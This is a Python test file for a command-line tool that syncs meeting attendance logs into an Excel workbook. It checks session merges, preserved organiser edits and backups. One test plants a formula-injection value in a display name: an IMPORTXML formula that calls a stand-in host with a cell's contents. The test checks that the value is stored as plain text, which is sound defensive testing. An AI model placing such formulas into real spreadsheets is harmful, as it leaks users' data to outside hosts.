"""The local workbook: untrusted text stays text, reruns replace, other sessions stay."""

from __future__ import annotations

import openpyxl
from click.testing import CliRunner

from tests.tables import by, records
from vc_sync.cli import cli


def sync(programme, session="S1"):
    result = CliRunner().invoke(cli, ["sync", "--config", str(programme.config), "--session", session])
    assert result.exit_code == 0, result.output


def test_formula_like_display_names_stay_text(programme):
    evil = '=IMPORTXML("http://x.example/?q="&A1,"//a")'
    programme.edit(
        "s1.csv",
        "Galaxy A51,,04/14/2020 09:12:00 AM",
        '"' + evil.replace('"', '""') + '",,04/14/2020 09:12:00 AM',
    )
    sync(programme)
    book = openpyxl.load_workbook(programme.xlsx)
    cells = [c for row in book["Session S1"].iter_rows() for c in row if c.value == evil]
    assert cells and all(c.data_type == "s" for c in cells)
    review = [c for row in book["Review"].iter_rows() for c in row if c.value == evil]
    assert review and all(c.data_type == "s" for c in review)


def test_syncing_one_session_keeps_the_others(programme):
    sync(programme, "S1")
    sync(programme, "S2")
    sync(programme, "S1")
    book = openpyxl.load_workbook(programme.xlsx)
    assert book.sheetnames == ["Summary", "About", "Session S1", "Session S2", "Review", "Choices"]
    summary = by(book["Summary"], "Agency")

    def figures(agency):
        r = summary[agency]
        return [r[f"{s} {k}"] for s in ("S1", "S2") for k in ("seats", "present", "status")] + [
            r["Total present"]
        ]

    assert figures("DPMPTSP Kabupaten Sleman") == [2, 2, "Present", None, None, None, 2]
    # S2's log is the same people four hours later: Joko Susanto of Cilacap, invited to S2, is
    # there for 60 minutes; Sri Wahyuni of Brebes is not
    assert figures("DPMPTSP Kabupaten Cilacap") == [None, None, None, 1, 1, "Present", 1]
    assert (
        summary["Agencies present"]["S1 status"] == "2/3"
        and summary["Agencies present"]["S2 status"] == "1/2"
    )
    review_sessions = [r["Session"] for r in records(book["Review"])]
    assert sorted(review_sessions) == ["S1", "S1", "S2", "S2"]


def test_an_organisers_edits_survive_and_their_pick_is_applied(programme):
    from openpyxl.comments import Comment
    from openpyxl.styles import PatternFill

    sync(programme)
    book = openpyxl.load_workbook(programme.xlsx)
    ws = book["Session S1"]
    header = [c.value for c in ws[1]]
    ws.cell(row=1, column=len(header) + 1, value="Catatan")
    ws.cell(row=2, column=len(header) + 1, value="hadir di kantor")
    ws.cell(row=2, column=2).comment = Comment("cek ulang", "panitia")
    ws.cell(row=2, column=3).fill = PatternFill(start_color="FFFF00", end_color="FFFF00", fill_type="solid")
    review = book["Review"]
    assign = [c.value for c in review[1]].index("Assign") + 1
    review.cell(row=2, column=assign, value="ignore")
    book.save(programme.xlsx)
    sync(programme)
    book = openpyxl.load_workbook(programme.xlsx)
    ws = book["Session S1"]
    assert ws.cell(row=2, column=len(header) + 1).value == "hadir di kantor"
    assert ws.cell(row=2, column=2).comment.text == "cek ulang"
    assert ws.cell(row=2, column=3).fill.start_color.rgb.endswith("FFFF00")
    assert "Ignored" in [r["Status"] for r in records(ws)]
    assert (programme.root / "overrides.csv").read_text().count("ignore") == 1


def test_visitors_and_organisers_are_named(programme):
    sync(programme)
    rows = by(openpyxl.load_workbook(programme.xlsx)["Session S1"], "Key")
    assert rows["i-R007"]["Name"] == "Joko Susanto"  # a visitor from S2
    assert rows["i-R006"]["Name"] == "Damayani Tyastianti"  # an organiser


def _logo(tmp_path):
    from PIL import Image as PILImage

    path = tmp_path / "logo.png"
    PILImage.new("RGB", (40, 20), (200, 30, 30)).save(path)
    return path


def test_an_organisers_logo_survives_a_sync(programme, tmp_path):
    from openpyxl.drawing.image import Image

    sync(programme)
    book = openpyxl.load_workbook(programme.xlsx)
    book["Summary"].add_image(Image(_logo(tmp_path)), "H2")
    book.save(programme.xlsx)
    programme.edit(
        "s1.csv",
        "Sri Wahyuni (Dinpar Bantul),,04/14/2020 09:00:00 AM,04/14/2020 09:30:00 AM",
        "Sri Wahyuni (Dinpar Bantul),,04/14/2020 09:00:00 AM,04/14/2020 11:00:00 AM",
    )
    sync(programme)
    book = openpyxl.load_workbook(programme.xlsx)
    (image,) = book["Summary"]._images
    assert image.anchor._from.col == 7 and image.anchor._from.row == 1


def test_shapes_openpyxl_cannot_keep_are_said_and_the_old_file_kept(programme, tmp_path):
    import zipfile

    from openpyxl.drawing.image import Image

    sync(programme)
    book = openpyxl.load_workbook(programme.xlsx)
    book["Summary"].add_image(Image(_logo(tmp_path)), "H2")
    book.save(programme.xlsx)
    shape = (
        b"<xdr:twoCellAnchor><xdr:from><xdr:col>9</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>1</xdr:row>"
        b"<xdr:rowOff>0</xdr:rowOff></xdr:from><xdr:to><xdr:col>11</xdr:col><xdr:colOff>0</xdr:colOff>"
        b'<xdr:row>4</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:to><xdr:sp macro="" textlink="">'
        b'<xdr:nvSpPr><xdr:cNvPr id="9" name="Catatan panitia"/><xdr:cNvSpPr txBox="1"/></xdr:nvSpPr>'
        b"<xdr:spPr/></xdr:sp><xdr:clientData/></xdr:twoCellAnchor>"
    )
    patched = tmp_path / "patched.xlsx"
    with zipfile.ZipFile(programme.xlsx) as src, zipfile.ZipFile(patched, "w") as dst:
        for item in src.infolist():
            data = src.read(item.filename)
            if item.filename.startswith("xl/drawings/drawing") and item.filename.endswith(".xml"):
                assert b"</wsDr>" in data  # openpyxl writes the default namespace, without xdr:
                data = data.replace(b"</wsDr>", shape.replace(b"xdr:", b"") + b"</wsDr>")
            dst.writestr(item, data)
    original = patched.read_bytes()
    programme.xlsx.write_bytes(original)
    programme.edit(
        "s1.csv",
        "Sri Wahyuni (Dinpar Bantul),,04/14/2020 09:00:00 AM,04/14/2020 09:30:00 AM",
        "Sri Wahyuni (Dinpar Bantul),,04/14/2020 09:00:00 AM,04/14/2020 11:00:00 AM",
    )
    result = CliRunner().invoke(cli, ["sync", "--config", str(programme.config), "--session", "S1"])
    assert result.exit_code == 0, result.output
    (backup,) = programme.xlsx.parent.glob("attendance.before-vc_sync-*.xlsx")
    assert "warning: attendance.xlsx held shapes or text boxes, which openpyxl cannot keep" in result.output
    assert backup.name in result.output
    assert backup.read_bytes() == original and backup.stat().st_mode & 0o777 == 0o600
